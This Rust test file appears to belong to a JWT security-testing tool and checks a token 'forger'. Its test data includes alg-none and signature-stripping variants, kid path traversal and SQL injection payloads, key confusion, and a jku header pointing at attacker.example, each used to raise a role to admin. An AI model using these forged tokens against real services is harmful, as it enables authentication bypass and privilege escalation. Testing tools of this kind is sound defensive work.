//! Tests of the forger: every variant decodes and carries what it claims.

use super::*;
use crate::jwt::decode::decode;
use crate::jwt::keys::{KeyMaterial, select_from_jwks};
use crate::jwt::sign::sign;
use crate::jwt::verify::{VerifyOptions, verify};

const NOW: i64 = 1_700_000_000;

fn es256_token() -> Decoded {
    let pair = crate::jwt::keygen::generate("ES256").unwrap();
    let h = json!({"typ": "JWT", "kid": "prod-1"})
        .as_object()
        .unwrap()
        .clone();
    let t = sign(
        &h,
        &json!({"sub": "alice", "role": "user", "exp": NOW + 60}),
        "ES256",
        &SigningKey::Pem(pair.private_pem),
    )
    .unwrap();
    decode(&t).unwrap()
}

fn by<'a>(vs: &'a [Variant], attack: &str) -> &'a Variant {
    vs.iter()
        .find(|v| v.attack == attack)
        .unwrap_or_else(|| panic!("no {attack}"))
}

#[test]
fn without_options_makes_the_keyless_variants() {
    let d = es256_token();
    let vs = forge(
        &d,
        &ForgeOptions {
            now: NOW,
            ..Default::default()
        },
    )
    .unwrap();
    let ids: Vec<_> = vs.iter().map(|v| v.attack).collect();
    assert_eq!(
        ids,
        [
            "alg-none",
            "alg-none-capitalized",
            "alg-none-upper",
            "alg-none-mixed",
            "signature-stripped",
            "null-signature",
            "empty-secret",
            "embedded-jwk",
            "kid-traversal",
            "kid-traversal-known-file",
            "kid-sql-injection",
            "psychic-signature"
        ]
    );
    for v in &vs {
        let f = decode(&v.token).unwrap_or_else(|e| panic!("{}: {e}", v.attack));
        assert_eq!(f.claims().unwrap()["sub"], "alice", "{}", v.attack);
        assert!(!v.explanation.is_empty());
    }
}

#[test]
fn variants_carry_what_they_claim() {
    let d = es256_token();
    let vs = forge(
        &d,
        &ForgeOptions {
            now: NOW,
            ..Default::default()
        },
    )
    .unwrap();
    for (id, spelling) in [
        ("alg-none", "none"),
        ("alg-none-capitalized", "None"),
        ("alg-none-upper", "NONE"),
        ("alg-none-mixed", "nOnE"),
    ] {
        let f = decode(&by(&vs, id).token).unwrap();
        assert_eq!(f.alg.as_deref(), Some(spelling));
        assert!(f.signature.is_empty() && f.signature_b64.is_empty());
        assert_eq!(f.header["kid"], "prod-1");
    }
    let stripped = decode(&by(&vs, "signature-stripped").token).unwrap();
    assert_eq!(stripped.alg.as_deref(), Some("ES256"));
    assert!(stripped.signature.is_empty());
    let null = decode(&by(&vs, "null-signature").token).unwrap();
    assert_eq!(null.signature, vec![0; 64]);
    let psychic = decode(&by(&vs, "psychic-signature").token).unwrap();
    assert_eq!(
        (psychic.alg.as_deref(), psychic.signature.clone()),
        (Some("ES256"), vec![0; 64])
    );
    let empty = decode(&by(&vs, "empty-secret").token).unwrap();
    let v = verify(
        &empty,
        &KeyMaterial::Secret(Vec::new()),
        &VerifyOptions::new(NOW),
    )
    .unwrap();
    assert!(v.is_valid());
    // Each kid names where a vulnerable server finds its key, and that key signs the token.
    for (attack, kid, key) in [
        (
            "kid-traversal",
            format!("{}dev/null", "../".repeat(12)),
            b"".to_vec(),
        ),
        (
            "kid-traversal-known-file",
            format!("{}proc/sys/kernel/randomize_va_space", "../".repeat(12)),
            b"2\n".to_vec(),
        ),
        (
            "kid-sql-injection",
            "x' UNION SELECT 'apiward'-- ".to_string(),
            b"apiward".to_vec(),
        ),
    ] {
        let forged = decode(&by(&vs, attack).token).unwrap();
        assert_eq!(forged.header["kid"], kid.as_str(), "{attack}");
        assert!(
            verify(&forged, &KeyMaterial::Secret(key), &VerifyOptions::new(NOW))
                .unwrap()
                .is_valid(),
            "{attack}"
        );
    }
}

#[test]
fn embedded_jwk_verifies_with_its_own_key() {
    let d = es256_token();
    let v = forge_one(
        "embedded-jwk",
        &d,
        &ForgeOptions {
            now: NOW,
            ..Default::default()
        },
    )
    .unwrap();
    let f = decode(&v.token).unwrap();
    let key = KeyMaterial::from_jwk(&f.header["jwk"]).unwrap();
    assert!(
        verify(&f, &key, &VerifyOptions::new(NOW))
            .unwrap()
            .is_valid()
    );
    assert!(
        f.header["jwk"].get("d").is_none(),
        "never embed the private key"
    );
}

#[test]
fn key_confusion_and_jku_and_resign_with_options() {
    let d = es256_token();
    let pem = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n";
    let opts = ForgeOptions {
        public_key_pem: Some(pem.into()),
        secret: Some(b"cracked".to_vec()),
        jku_url: Some("https://attacker.example/jwks.json".into()),
        set: vec![
            ("role".into(), "admin".into()),
            ("exp".into(), "+1h".into()),
        ],
        now: NOW,
    };
    let vs = forge(&d, &opts).unwrap();
    assert_eq!(vs.len(), ATTACKS.len());
    for v in &vs {
        let f = decode(&v.token).unwrap();
        assert_eq!(f.claims().unwrap()["role"], "admin", "{}", v.attack);
        assert_eq!(f.claims().unwrap()["exp"], NOW + 3600, "{}", v.attack);
    }
    let kc = decode(&by(&vs, "key-confusion").token).unwrap();
    assert_eq!(kc.alg.as_deref(), Some("HS256"));
    let v = verify(
        &kc,
        &KeyMaterial::Secret(pem.as_bytes().to_vec()),
        &VerifyOptions::new(NOW),
    )
    .unwrap();
    assert!(v.is_valid());
    let jku = by(&vs, "jku");
    let f = decode(&jku.token).unwrap();
    assert_eq!(f.header["jku"], "https://attacker.example/jwks.json");
    let (_, key) = select_from_jwks(
        jku.extra.as_deref().unwrap(),
        f.header_str("kid"),
        f.alg.as_deref(),
    )
    .unwrap();
    assert!(
        verify(&f, &key, &VerifyOptions::new(NOW))
            .unwrap()
            .is_valid()
    );
    let rs = decode(&by(&vs, "resign").token).unwrap();
    assert!(
        verify(
            &rs,
            &KeyMaterial::Secret(b"cracked".to_vec()),
            &VerifyOptions::new(NOW)
        )
        .unwrap()
        .is_valid()
    );
}

#[test]
fn hmac_tokens_keep_their_alg_and_text_payloads_survive() {
    let t = sign(
        &Map::new(),
        &json!({"sub": "a"}),
        "HS512",
        &SigningKey::Secret(b"s".to_vec()),
    )
    .unwrap();
    let v = forge_one(
        "resign",
        &decode(&t).unwrap(),
        &ForgeOptions {
            secret: Some(b"s".to_vec()),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(
        v.token, t,
        "re-signing unchanged claims with the same secret gives the same token"
    );
    let text = "eyJhbGciOiJFZERTQSJ9.RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc.AA";
    let v = forge_one(
        "embedded-jwk",
        &decode(text).unwrap(),
        &ForgeOptions::default(),
    )
    .unwrap();
    assert_eq!(
        decode(&v.token).unwrap().payload_b64(),
        "RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc"
    );
}

#[test]
fn errors_name_the_problem() {
    let d = es256_token();
    let e = forge_one("key-confusion", &d, &ForgeOptions::default())
        .unwrap_err()
        .to_string();
    assert!(e.contains("public key PEM"), "{e}");
    let e = forge_one("sql", &d, &ForgeOptions::default())
        .unwrap_err()
        .to_string();
    assert!(e.contains("unknown attack"), "{e}");
    let text = decode("eyJhbGciOiJFZERTQSJ9.RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc.AA").unwrap();
    let opts = ForgeOptions {
        set: vec![("a".into(), "1".into())],
        ..Default::default()
    };
    assert!(forge(&text, &opts).is_err());
}
